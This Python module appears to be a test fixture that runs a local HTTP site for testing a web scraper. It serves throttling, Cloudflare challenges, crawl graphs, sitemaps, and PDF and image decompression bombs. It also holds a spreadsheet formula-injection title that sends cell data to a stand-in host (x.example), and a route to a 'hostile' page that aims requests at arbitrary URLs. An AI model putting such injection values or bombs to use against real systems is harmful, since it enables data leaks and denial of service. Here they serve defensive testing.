"""A real HTTP site on loopback whose behaviour tests program through the URL.

Routes (``key`` separates counters between tests):
- ``/product/N``                   catalog page (true values from the devstack catalog)
- ``/flaky/KEY?fail=N&code=500``   ``code`` for the first N requests, then the product page
- ``/status/CODE/KEY``             always ``CODE``
- ``/slow/KEY?s=2&times=1``        sleeps ``s`` seconds for the first ``times`` requests
- ``/robots.txt``                  disallows ``/robots-private/`` and ``/fc/private/``; names
                                   ``/sitemap-index.xml`` (``SITEMAPS``, with ``/sitemap.xml``)
- ``/fc/...``                      a section of the site for Firecrawl's crawl (``FC_LINKS``)
- ``/crawl/...``                   a small link graph (see ``CRAWL_LINKS``)
- ``/throttle/KEY?after=2``        429 with ``Retry-After`` on the first request, then 200
- ``/conc/KEY?s=0.3``              sleeps; ``max_in_flight`` records the peak concurrency
- ``/switch/KEY``                  500 until ``KEY`` is in ``site.switched_on``, then a product
- ``/messy/N``                     product N written untidily (see ``messy_page``)
- ``/kinds/KIND``                  a page of each kind for main content (support/content_pages)
- ``/shapes/NAME`` (and a forum's own address, ``/threads/...``, ``/t/...``, ``/forum/...``)
                                   a page of the page-shape suite (support/page_shapes)
- ``/scripted/N?delay_ms=0``        product N built by a script from ``/api/product/N``
- ``/hostile?to=URL``               a page whose every kind of request aims at ``URL``
- ``/cf-challenge/KEY``            403, ``cf-mitigated: challenge``, Cloudflare's interstitial
- ``/moment/KEY``                  200, Cloudflare's "Just a moment..." interstitial
- ``/members/KEY``                 302 to ``/login?next=...``, a sign-in form
- ``/shell/KEY``                   an app shell: an empty root and a script that never loads
- ``/tall/KEY?px=3000``            a page ``px`` high (full-page screenshots)
- ``/interactive/KEY``             content that appears only after a click and typed text
- ``/languages/KEY``               the Accept-Language it was asked with, and (rendered) the
                                   browser's ``navigator.language``
- ``/images/KEY``                  an article with a linked image and one written in (``data:``)
- ``/files/NAME``                  a document of tests/data/documents (PDF, DOCX...), as a file
- ``/bombs/flate.pdf``, ``pages.pdf`` a PDF decompression bomb (768 MiB inflated), page bomb
- ``/scans/NAME``                  scans of known text (support/scans.py): ``scan.pdf``,
                                   ``scan.png``, ``bomb.png`` (60,000 by 60,000), ``corrupt.png``
- ``/pdfsite/``                    a page linking to ``guide.pdf``, whose link annotation and
                                   text lead to ``/pdfsite/from-link`` and ``from-text``
- ``/watched/KEY``                 ``site.watched[KEY]`` (status, html or a PDF's bytes): pages a
                                   test edits,
                                   with an ETag (304 to ``If-None-Match``) unless unvalidated
                                   between a monitor's checks (404 once removed)
"""

from __future__ import annotations

import hashlib
import re
import threading
import time
from collections import Counter
from html import escape as html_escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

from scrapejobs_devstack.demo_site.catalog import (
    Product,
    product_json,
    product_page,
    scripted_product_page,
)
from scrapejobs_devstack.demo_site.pdf_writer import simple_pdf
from scrapejobs_shared.extraction.document_types import BY_EXTENSION
from support.content_pages import PAGES as CONTENT_PAGES
from support.document_bombs import flate_bomb_pdf, page_bomb_pdf
from support.hostile_page import hostile_page
from support.page_shapes import BY_PATH as SHAPES_BY_PATH
from support.scans import scan_files

DOCUMENTS = Path(__file__).resolve().parent.parent / "data" / "documents"

ROBOTS = (
    "User-agent: *\nDisallow: /robots-private/\nDisallow: /fc/private/\n"
    "Sitemap: /sitemap-index.xml\n"
)
# the site's sitemaps (Firecrawl's map): /sitemap.xml, and an index robots.txt names
SITEMAPS = {
    "/sitemap.xml": ("urlset", ["/fc/a", "/fc/hidden", "/fc/private/y"]),
    "/sitemap-index.xml": ("sitemapindex", ["/sitemap-extra.xml"]),
    "/sitemap-extra.xml": ("urlset", ["/fc/extra?utm=1"]),
}
# a section of the site for Firecrawl's crawl: /fc/ and what it links to (one page elsewhere,
# one robots.txt keeps out)
FC_LINKS: dict[str, list[str]] = {
    "/fc/": ["/fc/a", "/fc/b?ref=1", "/fc/b?ref=2", "/fc/private/x", "/other/x"],
    "/fc/a": ["/fc/a/1", "/fc/"],
    "/fc/b": [],
    "/fc/a/1": [],
    "/other/x": ["/fc/"],
    "/fc/hidden": [],  # only in /sitemap.xml
    "/fc/extra": [],  # only in the sitemap of the index robots.txt names
}
CRAWL_LINKS: dict[str, list[str]] = {
    "/crawl/": ["/crawl/a", "/crawl/b#top", "/crawl/private/x", "http://elsewhere.invalid/"],
    "/crawl/a": ["/crawl/a/1", "/crawl/a/2", "/crawl/", "/crawl/b"],
    "/crawl/b": ["/crawl/b/1", "/crawl/a", "mailto:x@y.z"],
    "/crawl/a/1": ["/crawl/a/1/deep", "/crawl/"],
    "/crawl/a/2": [],
    "/crawl/b/1": ["/crawl/b/1/deep"],
    "/crawl/private/x": [],
}


class Site:
    def __init__(self) -> None:
        self.hits: Counter[str] = Counter()
        self.times: dict[str, list[float]] = {}
        self.in_flight = 0
        self.max_in_flight = 0
        self.switched_on: set[str] = set()  # /switch/KEY answers 500 until KEY is in here
        # /watched/KEY: (status, html), or a PDF's bytes
        self.watched: dict[str, tuple[int, str | bytes]] = {}
        self.unvalidated: set[str] = set()  # watched pages answered without an ETag
        self.not_modified: Counter[str] = Counter()  # watched pages answered 304, by KEY
        self.lock = threading.Lock()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def start(self) -> Site:
        self._thread.start()
        return self

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def count(self, path: str) -> int:
        with self.lock:
            return self.hits[path]

    def hit(self, path: str) -> int:
        with self.lock:
            self.hits[path] += 1
            self.times.setdefault(path, []).append(time.monotonic())
            return self.hits[path]

    def enter(self) -> None:
        with self.lock:
            self.in_flight += 1
            self.max_in_flight = max(self.max_in_flight, self.in_flight)

    def leave(self) -> None:
        with self.lock:
            self.in_flight -= 1


def _handler(site: Site) -> type[BaseHTTPRequestHandler]:  # noqa: C901 (the site's paths)
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:  # noqa: C901 (the site's paths)
            parts = urlsplit(self.path)
            query = {k: v[0] for k, v in parse_qs(parts.query).items()}
            n = site.hit(parts.path)
            if parts.path.startswith("/conc/"):
                site.enter()
                try:
                    time.sleep(float(query.get("s", "0.3")))
                finally:
                    site.leave()
            if parts.path == "/robots.txt":
                self._send(200, ROBOTS, "text/plain")
            elif parts.path in SITEMAPS:
                self._send(200, sitemap(site.url, *SITEMAPS[parts.path]), "application/xml")
            elif parts.path == "/hostile":
                self._send(200, hostile_page(query["to"]).decode())
            elif match := API.match(parts.path):
                self._send(200, product_json(int(match.group(1))), "application/json")
            elif parts.path.startswith("/throttle/") and n == 1:
                self._send(429, "slow down", headers={"Retry-After": query.get("after", "2")})
            elif parts.path.startswith("/cf-challenge/"):
                headers = {"cf-mitigated": "challenge", "Server": "cloudflare"}
                self._send(403, CLOUDFLARE_CHALLENGE, headers=headers)
            elif parts.path.startswith("/members/"):
                self._redirect(f"/login?next={parts.path}")
            elif parts.path.startswith("/watched/"):
                self._watched(parts.path.removeprefix("/watched/"))
            elif parts.path.startswith("/files/"):
                self._file(parts.path.removeprefix("/files/"))
            elif parts.path.startswith("/scans/"):  # read by OCR (support/scans.py)
                found = scan_files().get(parts.path.removeprefix("/scans/"))
                if found is None:
                    self._send(404, "<h1>no such scan</h1>")
                else:
                    self._send(200, found[0], found[1])
            elif parts.path == "/bombs/flate.pdf":  # inflates to 768 MiB when read
                self._send(200, flate_bomb_pdf(), "application/pdf")
            elif parts.path == "/bombs/pages.pdf":  # 150,000 pages, all the same one
                self._send(200, page_bomb_pdf(150_000), "application/pdf")
            elif parts.path == "/pdfsite/guide.pdf":  # links only a PDF has: a crawl finds them
                lines = ["A guide to the shop", f"More at {site.url}/pdfsite/from-text today."]
                guide = simple_pdf(lines, [f"{site.url}/pdfsite/from-link"])
                self._send(200, guide, "application/pdf")
            elif parts.path.startswith("/languages/"):  # what the request asked in
                asked = html_escape(self.headers.get("Accept-Language", "none"))
                self._send(200, languages_page(asked))
            elif parts.path.startswith("/images/"):  # a linked image and one written in
                self._send(200, images_page())
            elif parts.path.startswith("/switch/"):
                on = parts.path.removeprefix("/switch/") in site.switched_on
                self._send(200, product_page(9)) if on else self._send(500, "<h1>off</h1>")
            else:
                status, body = _route(parts.path, query, n)
                self._send(status, body)

        def _watched(self, key: str) -> None:
            """A page a test edits: with an ETag (unless its key is in ``site.unvalidated``),
            answered 304 to a request that names it (counted in ``site.not_modified``)."""
            status, html = site.watched.get(key, (404, "<h1>gone</h1>"))
            kind = "application/pdf" if isinstance(html, bytes) else "text/html; charset=utf-8"
            if status != 200 or key in site.unvalidated:
                self._send(status, html, kind)
                return
            body = html if isinstance(html, bytes) else html.encode()
            etag = f'"{hashlib.sha256(body).hexdigest()[:16]}"'
            if self.headers.get("If-None-Match") == etag:
                with site.lock:
                    site.not_modified[key] += 1
                self.send_response(304)
                self.send_header("ETag", etag)
                self.end_headers()
                return
            self._send(status, html, kind, headers={"ETag": etag})

        def _file(self, name: str) -> None:
            """A document of tests/data/documents, by its name alone (no other path), with its
            media type."""
            kind = BY_EXTENSION.get(Path(name).suffix)
            if kind is None or name not in {p.name for p in DOCUMENTS.iterdir()}:
                self._send(404, "<h1>no such file</h1>")
                return
            self._send(200, (DOCUMENTS / name).read_bytes(), kind.media_type)

        def _redirect(self, location: str) -> None:
            self.send_response(302)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def _send(
            self,
            status: int,
            html: str | bytes,
            content_type: str = "text/html; charset=utf-8",
            headers: dict[str, str] | None = None,
        ) -> None:
            data = html.encode() if isinstance(html, str) else html
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: object) -> None:
            return

    return Handler


# What stands between a scraper and the page (docs/semantics.md, "Pages that are not what was
# asked for"): a Cloudflare interstitial, a sign-in form, an app shell built by scripts
CLOUDFLARE_CHALLENGE = (
    "<!DOCTYPE html><html lang='en-US'><head><title>Just a moment...</title></head><body>"
    "<noscript>Enable JavaScript and cookies to continue</noscript><script>"
    "window._cf_chl_opt={cType: 'managed'};</script>"
    "<script src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1'></script>"
    "</body></html>"
)
LOGIN_PAGE = (
    "<html><head><title>Sign in</title></head><body><h1>Sign in</h1><form method='post'>"
    "<input name='user'><input name='password' type='password'><button>Sign in</button>"
    "</form></body></html>"
)
INTERACTIVE = """<html><head><title>interactive</title></head><body>
<h1>Search the catalog</h1>
<button id="show">Show the shelf</button>
<div id="panel"></div>
<script>
document.getElementById("show").addEventListener("click", function () {
  document.getElementById("panel").innerHTML =
    '<p id="secret">The secret shelf: product 42</p><input id="q" autocomplete="off">' +
    '<div id="result"></div>';
});
document.addEventListener("keydown", function (e) {
  if (e.target.id === "q" && e.key === "Enter") {
    document.getElementById("result").innerHTML =
      '<p class="found">You searched: ' + e.target.value + "</p>";
  }
});
</script>
<div style="height:2000px"></div><p id="bottom">The end of the page</p>
</body></html>"""
APP_SHELL = (
    "<!doctype html><html><head><title>App</title><script src='/static/app.js' defer>"
    "</script></head><body><div id='root'></div><noscript>You need to enable JavaScript to "
    "run this app.</noscript></body></html>"
)
FORMULA_TITLE = '=HYPERLINK("https://x.example/?"&amp;A1,"click")'
PRODUCT = re.compile(r"^/product/(\d+)$")
MESSY = re.compile(r"^/messy/(\d+)$")
SCRIPTED = re.compile(r"^/scripted/(\d+)$")
API = re.compile(r"^/api/product/(\d+)$")


def messy_page(number: int) -> str:
    """Product ``number`` as a sloppy template writes it: the title split over lines with an
    entity escaped twice (the text reads ``&amp;``), the price padded, an empty note."""
    product = Product(number)
    return (
        "<html><body>"
        f"<h1>  {product.title}\n\t&amp;amp;   Co  </h1>"
        f"<p class='price'> \n {product.price} </p>"
        "<p class='note'>   </p>"
        "</body></html>"
    )


ARTICLE = re.compile(r"^/article/(\d+)$")


def article_page(number: int) -> str:
    """An article as a news site serves it: head tags (Open Graph, Dublin Core), navigation, a
    sidebar, a cookie banner, a script and a footer around the article itself."""
    return (
        '<!doctype html><html lang="en"><head>'
        f"<title>Article {number} | The Daily Test</title>"
        f'<meta name="description" content="What happened in story {number}.">'
        f'<meta property="og:title" content="Story {number}">'
        '<meta property="og:site_name" content="The Daily Test">'
        '<meta name="dcterms.created" content="2026-11-01">'
        "<script>var tracker = 'SCRIPT-TEXT';</script><style>p { color: red }</style>"
        "</head><body>"
        '<div class="cookie-banner">We use cookies <a href="/cookies">OK</a></div>'
        '<header><nav><a href="/">NAV-HOME</a> <a href="/world">NAV-WORLD</a></nav></header>'
        "<aside><h3>SIDEBAR-POPULAR</h3></aside>"
        f"<main><article><h1>Story {number}</h1>"
        f'<p>The first paragraph links to <a href="/product/{number}">the product</a>.</p>'
        "<h2>Background</h2><ul><li>one</li><li>two</li></ul></article></main>"
        "<footer>FOOTER-COPYRIGHT 2026</footer></body></html>"
    )


# a 1x1 PNG written into the page
WRITTEN_IN_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE"
    "hQGAhKmMIQAAAABJRU5ErkJggg=="
)


def images_page() -> str:
    """An article with a linked image and one written into the page (a data: URI)."""
    return (
        "<html><head><title>Images</title></head><body><main><article>"
        "<h1>A page with pictures</h1>"
        "<p>The first paragraph says what the pictures show, at some length.</p>"
        '<img alt="linked chart" src="/static/chart.png">'
        "<p>The second paragraph goes on about the pictures and what they mean.</p>"
        f'<img alt="written-in dot" src="{WRITTEN_IN_PNG}">'
        "</article></main></body></html>"
    )


def languages_page(asked: str) -> str:
    """A page saying the Accept-Language it was asked with, and (its script run: rendered) the
    language of the browser that reads it."""
    return (
        "<html><head><title>Languages</title></head><body><main><article>"
        "<h1>Which language</h1>"
        f"<p>ACCEPT-LANGUAGE: {asked}</p>"
        '<p id="navigator">NAVIGATOR-UNKNOWN</p>'
        "<script>document.getElementById('navigator').textContent = "
        "'NAVIGATOR-' + navigator.language;</script>"
        "</article></main></body></html>"
    )


def _route(path: str, query: dict[str, str], n: int) -> tuple[int, str]:  # noqa: C901 (paths)
    if path == "/pdfsite/":  # a page linking to a PDF (whose links lead on: /pdfsite/guide.pdf)
        return 200, '<html><body><h1>Docs</h1><a href="/pdfsite/guide.pdf">Guide</a></body></html>'
    if path.startswith("/pdfsite/from-"):
        return 200, f"<html><body><h1>{path}</h1><p>Found through a PDF.</p></body></html>"
    if path.startswith("/kinds/") and path.removeprefix("/kinds/") in CONTENT_PAGES:
        return 200, CONTENT_PAGES[path.removeprefix("/kinds/")]
    if path in SHAPES_BY_PATH:
        return 200, SHAPES_BY_PATH[path].html.decode()
    if match := ARTICLE.match(path):
        return 200, article_page(int(match.group(1)))
    if match := PRODUCT.match(path):
        return 200, product_page(int(match.group(1)))
    if match := MESSY.match(path):
        return 200, messy_page(int(match.group(1)))
    if match := SCRIPTED.match(path):
        return 200, scripted_product_page(int(match.group(1)), int(query.get("delay_ms", "0")))
    if path.startswith("/flaky/"):
        if n <= int(query.get("fail", "2")):
            return int(query.get("code", "500")), "<h1>oops</h1>"
        return 200, product_page(7)
    if match := re.match(r"^/status/(\d{3})/", path):
        return int(match.group(1)), f"<h1>{match.group(1)}</h1>"
    if path in FC_LINKS:
        links = "".join(f"<li><a href='{href}'>{href}</a></li>" for href in FC_LINKS[path])
        body = f"<h1>Page {path}</h1><p>About {path}.</p><ul>{links}</ul>"
        return 200, f"<html><head><title>{path}</title></head><body>{body}</body></html>"
    if path in CRAWL_LINKS or path.endswith("/deep"):
        links = "".join(f"<a href='{href}'>{href}</a>" for href in CRAWL_LINKS.get(path, []))
        body = f"<h1>{path}</h1>{links}"
        return 200, f"<html><head><title>{path}</title></head><body>{body}</body></html>"
    if path.startswith("/moment/"):
        return 200, CLOUDFLARE_CHALLENGE
    if path == "/login":
        return 200, LOGIN_PAGE
    if path.startswith("/shell/"):
        return 200, APP_SHELL
    if path.startswith("/interactive/"):
        return 200, INTERACTIVE
    if path.startswith("/tall/"):  # ?px= high: a page a full-page screenshot is taller than
        body = f'<h1>A tall page</h1><div style="height:{int(query.get("px", "3000"))}px">x</div>'
        return 200, f"<html><head><title>tall</title></head><body>{body}<p>end</p></body></html>"
    if path.startswith("/many/"):  # ?n= elements: a cubic XPath takes hours on 1,000
        items = "<div><p>x</p></div>" * int(query.get("n", "1000"))
        return 200, f"<html><head><title>many</title></head><body>{items}</body></html>"
    if path.startswith("/formula/"):  # a title a spreadsheet would run as a formula
        return (
            200,
            f"<html><head><title>{FORMULA_TITLE}</title></head><body><h1>x</h1></body></html>",
        )
    if path.startswith(("/throttle/", "/conc/")):
        return 200, product_page(5)
    if path.startswith("/slowlinks/"):  # a slow page linking to ?links= product pages
        if n <= int(query.get("times", "1")):
            time.sleep(float(query.get("s", "2")))
        first = int(query.get("from", "0"))
        hrefs = [f"/product/{k}" for k in range(first, first + int(query.get("links", "5")))]
        links = "".join(f"<a href='{href}'>{href}</a>" for href in hrefs)
        return 200, f"<html><head><title>links</title></head><body>{links}</body></html>"
    if path.startswith("/slow/"):
        if n <= int(query.get("times", "1")):
            time.sleep(float(query.get("s", "2")))
        return 200, product_page(3)
    return 404, "<h1>not found</h1>"


def sitemap(base: str, kind: str, paths: list[str]) -> str:
    """A sitemap (``urlset``) or sitemap index of ``paths`` on ``base``."""
    entry = "url" if kind == "urlset" else "sitemap"
    locs = "".join(f"<{entry}><loc>{base}{path}</loc></{entry}>" for path in paths)
    return f'<?xml version="1.0"?><{kind} xmlns="{SITEMAP_NS}">{locs}</{kind}>'


SITEMAP_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
